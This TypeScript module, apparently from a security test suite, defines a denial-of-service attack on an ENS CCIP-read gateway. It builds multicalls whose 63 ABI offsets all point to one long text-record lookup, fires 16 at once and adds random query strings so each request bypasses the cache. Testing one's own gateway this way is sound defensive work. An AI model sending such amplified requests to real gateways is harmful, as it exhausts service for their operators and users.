/** Short lookups with long answers: 63 items that share one tail, and a query string that makes each a new one. */
import { randomBytes } from "node:crypto";
import { concat, toBeHex, zeroPadValue } from "ethers";
import { recordCall, resolveRequest } from "../../../../test/gateway/ensRequest.js";
import type { Attack } from "../attack.js";
import { hostileNetwork, LONG_TEXT, LOOKUP_CHAIN, RESOLVER } from "../target.js";

const ITEMS = 63;
const AT_ONCE = 16;
const MULTICALL = "0xac9650d8";

export const dearMulticalls: Attack = {
  name: "dearMulticalls",
  title: "A2: multicalls of 63 items with one tail",
  start: ({ repeat }) => {
    const { name, key } = LONG_TEXT;
    const call = sharingOneTail(recordCall(name, "text", key));
    const body = JSON.stringify({ data: resolveRequest(name, call, BigInt(LOOKUP_CHAIN)) });
    repeat(AT_ONCE, (number) => ({
      ...{ method: "POST", network: hostileNetwork(number), body },
      path: `/ccip/${LOOKUP_CHAIN}/${RESOLVER}?${randomBytes(8).toString("hex")}`,
    }));
  },
};

/** `multicall(bytes[])` whose items all point to the same bytes. */
function sharingOneTail(item: string): string {
  const word = (value: number) => zeroPadValue(toBeHex(value), 32);
  const length = (item.length - 2) / 2;
  const padding = `0x${"00".repeat((32 - (length % 32)) % 32)}`;
  const offsets = Array<string>(ITEMS).fill(word(ITEMS * 32));
  return concat([MULTICALL, word(32), word(ITEMS), ...offsets, word(length), item, padding]);
}
